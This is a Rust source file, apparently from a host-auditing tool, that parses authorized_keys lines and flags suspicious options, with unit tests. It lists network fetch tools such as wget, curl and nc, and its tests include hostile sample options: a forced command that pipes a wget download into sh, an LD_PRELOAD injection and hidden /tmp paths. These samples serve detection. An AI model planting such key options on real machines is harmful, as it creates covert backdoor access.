//! A line of `authorized_keys` in bytes, the key and what it may do out (sshd(8), "AUTHORIZED_KEYS FILE FORMAT").

use super::origin::Standing;
use super::place::{Place, place};
use super::text::{Bytes, basename, trim};

/// A line that holds a key.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Line<'a> {
    /// What is in front of the key: `no-pty,command="…"`.
    pub options: &'a [u8],
    /// The algorithm: `ssh-ed25519`.
    pub kind: &'a [u8],
    /// The key, in base64.
    pub blob: &'a [u8],
    /// What somebody wrote behind it.
    pub comment: &'a [u8],
}

impl<'a> Line<'a> {
    /// Takes a line apart. `None`: there is no key in it.
    #[must_use]
    pub fn parse(line: &'a [u8]) -> Option<Self> {
        let line = trim(line);
        if line.first() == Some(&b'#') {
            return None;
        }
        let (first, rest) = word(line);
        let (options, kind, rest) = if is_kind(first) {
            (&b""[..], first, rest)
        } else {
            let (kind, rest) = word(rest);
            (first, kind, rest)
        };
        let (blob, comment) = word(rest);
        (is_kind(kind) && blob.len() >= 4).then_some(Self { options, kind, blob, comment })
    }

    /// What of its options no owner wants: libraries for whatever it starts, a command that fetches something or that
    /// lies in a volatile or hidden place.
    #[must_use]
    pub fn odd_option(&self) -> Option<&'static str> {
        const FETCH: [&[u8]; 7] = [b"wget", b"curl", b"tftp", b"ftpget", b"nc", b"ncat", b"base64"];
        let mut rest = self.options;
        while !rest.is_empty() {
            let (option, after) = split(rest, b',');
            rest = after;
            let equals = option.iter().position(|b| *b == b'=').unwrap_or(option.len());
            let (name, value) = option.split_at(equals);
            if name.eq_ignore_ascii_case(b"environment") && value.windows(3).any(|piece| piece == b"LD_") {
                return Some("it brings a library into what it starts");
            }
            if !name.eq_ignore_ascii_case(b"command") {
                continue;
            }
            let blank = |b: &u8| b.is_ascii_whitespace() || b"\"'\\=;&|()<>`$".contains(b);
            for word in value.split(blank).filter(|word| !word.is_empty()) {
                if FETCH.contains(&basename(word)) {
                    return Some("it runs a command that fetches something");
                }
                let odd = matches!(place(word), Place::Volatile | Place::Hidden) && word != b"/dev/null";
                if word.first() == Some(&b'/') && odd {
                    return Some("it runs a command in a volatile or hidden place");
                }
            }
        }
        None
    }
}

/// The part up to a byte that is not inside of quotes, and what is behind it.
fn split(text: &[u8], at: u8) -> (&[u8], &[u8]) {
    let (mut quoted, mut escaped) = (false, false);
    let end = text.iter().position(|byte| {
        let found = !quoted && (*byte == at || at == b' ' && *byte == b'\t');
        quoted ^= *byte == b'"' && !escaped;
        escaped = *byte == b'\\' && !escaped;
        found
    });
    let end = end.unwrap_or(text.len());
    (text.get(..end).unwrap_or_default(), text.get(end.saturating_add(1)..).unwrap_or_default())
}

/// The first word, quotes heeded, and the rest without blanks around it.
fn word(text: &[u8]) -> (&[u8], &[u8]) {
    let (word, rest) = split(text, b' ');
    (word, trim(rest))
}

/// Whether a word is an algorithm of a key that OpenSSH or dropbear knows.
fn is_kind(word: &[u8]) -> bool {
    const KINDS: [&[u8]; 4] = [b"ssh-", b"ecdsa-sha2-", b"sk-ssh-", b"sk-ecdsa-"];
    KINDS.iter().any(|kind| word.starts_with(kind))
}

/// Hands the bytes that base64 stands for to `each`. What is none of its letters is passed over, as dropbear does
/// (libtomcrypt, `base64_decode`), so that no blot makes another key of it.
pub fn decode(base64: &[u8], each: &mut dyn FnMut(u8)) {
    let (mut held, mut bits) = (0_u32, 0_u32);
    for byte in base64.iter().take_while(|byte| **byte != b'=') {
        let Some(value) = LETTERS.iter().position(|letter| letter == byte) else { continue };
        held = held << 6 & 0xffff | u32::try_from(value).unwrap_or_default();
        bits = bits.saturating_add(6);
        if let Some(left) = bits.checked_sub(8) {
            bits = left;
            each(u8::try_from(held >> left & 0xff).unwrap_or_default());
        }
    }
}

/// The letters of base64 (RFC 4648, section 4).
const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Bytes of a fingerprint.
pub const FINGERPRINT_BYTES: usize = 50;

/// The fingerprint of a key as OpenSSH shows it (ssh-keygen(1), `-l`): `SHA256:` and the digest in base64 without `=`.
#[must_use]
pub fn fingerprint(sha256: &[u8; 32]) -> Bytes<FINGERPRINT_BYTES> {
    let mut text = Bytes::of(b"SHA256:");
    for three in sha256.chunks(3) {
        let bits = (0..3).fold(0_u32, |bits, at| bits << 8 | three.get(at).copied().map_or(0, u32::from));
        for at in 0..=three.len() {
            let shift = 18_u32.saturating_sub(u32::try_from(at).unwrap_or_default().saturating_mul(6));
            let letter = usize::try_from(bits >> shift & 63).unwrap_or_default();
            text.push(LETTERS.get(letter..letter.saturating_add(1)).unwrap_or_default());
        }
    }
    text
}

/// A key that lets somebody in, with all that is known about it.
#[derive(Clone, Copy, Debug)]
pub struct Key<'a> {
    /// The file that it stands in.
    pub file: &'a [u8],
    /// The line.
    pub line: u32,
    /// The line itself.
    pub text: Line<'a>,
    /// See [`fingerprint`].
    pub fingerprint: &'a [u8],
    /// Whom it lets in as.
    pub user: &'a [u8],
    /// The number of that user.
    pub uid: u32,
    /// That user is the machine's own administrator, or the file is the machine's own for it.
    pub main: bool,
    /// Users whose files hold this key.
    pub users: u32,
    /// The file, links followed, lies in a volatile or hidden place where no firmware keeps it.
    pub odd_place: bool,
    /// Everybody may write to the file.
    pub open: bool,
    /// The file belongs to neither its user nor whoever the system's own files belong to.
    pub foreign: bool,
    /// What sources of truth say.
    pub standing: Standing,
}

#[cfg(test)]
mod tests {
    use super::*;

    const BLOB: &[u8] = b"AAAAC3NzaC1lZDI1NTE5AAAAIDx0";

    #[test]
    fn lines() {
        let plain = Line::parse(b"  ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDx0 ann b \r").unwrap();
        assert_eq!((plain.kind, plain.blob), (&b"ssh-ed25519"[..], BLOB));
        assert_eq!((plain.options, plain.comment), (&b""[..], &b"ann b"[..]));
        let quoted =
            br#"no-pty,command="ssh-x \"a b\" c" sk-ssh-ed25519@openssh.com AAAAC3NzaC1lZDI1NTE5AAAAIDx0"#;
        let quoted = Line::parse(quoted).unwrap();
        assert_eq!(quoted.options, br#"no-pty,command="ssh-x \"a b\" c""#);
        assert_eq!((quoted.kind, quoted.comment), (&b"sk-ssh-ed25519@openssh.com"[..], &b""[..]));
        for none in [
            &b""[..],
            b"# ssh-rsa AAAA",
            b"ssh-rsa",
            b"ssh-rsa A",
            b"x y AAAA",
            b"1024 35 1234567 old",
            b"command=\"open ssh-rsa AAAA",
            b"\xff\xfe \x00",
        ] {
            assert_eq!(Line::parse(none), None, "{}", String::from_utf8_lossy(none));
        }
    }

    #[test]
    fn any_beginning_of_a_line_is_survived() {
        let line = br#"environment="LD_PRELOAD=/x",command="a \"b" ssh-rsa AAAAB3NzaC1yc2E= c d"#;
        for length in 0..=line.len() {
            let _ = Line::parse(&line[..length]).map(|line| line.odd_option());
        }
    }

    #[test]
    fn options_that_no_owner_wants() {
        let odd = |options: &[u8]| {
            Line { options, kind: b"ssh-rsa", blob: BLOB, comment: b"" }.odd_option().is_some()
        };
        for options in [
            &br#"environment="LD_PRELOAD=/lib/x.so""#[..],
            br#"no-pty,Command="/tmp/.x/a""#,
            br#"command="sh -c 'wget -qO- 192.0.2.1/x|sh'""#,
            br#"command="/usr/lib/.x""#,
        ] {
            assert!(odd(options), "{}", String::from_utf8_lossy(options));
        }
        for options in [
            &b""[..],
            b"restrict,pty",
            br#"command="/usr/bin/rsync --server --sender -vlogDtprze.iLsf . /etc",no-pty"#,
            br#"no-port-forwarding,command="echo 'Please login as the user \"debian\".';echo;sleep 10;exit 142""#,
            br#"environment="GIT_AUTHOR_NAME=Ann",command="borg serve >/dev/null""#,
            b"command",
        ] {
            assert!(!odd(options), "{}", String::from_utf8_lossy(options));
        }
    }

    #[test]
    fn base64_both_ways() {
        let bytes = |text: &[u8]| {
            let mut found = Vec::new();
            decode(text, &mut |byte| found.push(byte));
            found
        };
        for (text, expected) in
            [("", ""), ("Zg==", "f"), ("Zm8=", "fo"), ("Zm9v", "foo"), ("Zm9vYmE", "fooba")]
        {
            assert_eq!(bytes(text.as_bytes()), expected.as_bytes());
        }
        assert_eq!(bytes(b"Z!m\xff9v"), b"foo");
        // printf '' | sha256sum | xxd -r -p | base64
        let empty = [
            0xe3, 0xb0, 0xc4, 0x42, 0x98, 0xfc, 0x1c, 0x14, 0x9a, 0xfb, 0xf4, 0xc8, 0x99, 0x6f, 0xb9, 0x24,
            0x27, 0xae, 0x41, 0xe4, 0x64, 0x9b, 0x93, 0x4c, 0xa4, 0x95, 0x99, 0x1b, 0x78, 0x52, 0xb8, 0x55,
        ];
        assert_eq!(fingerprint(&empty).as_slice(), b"SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU");
    }
}
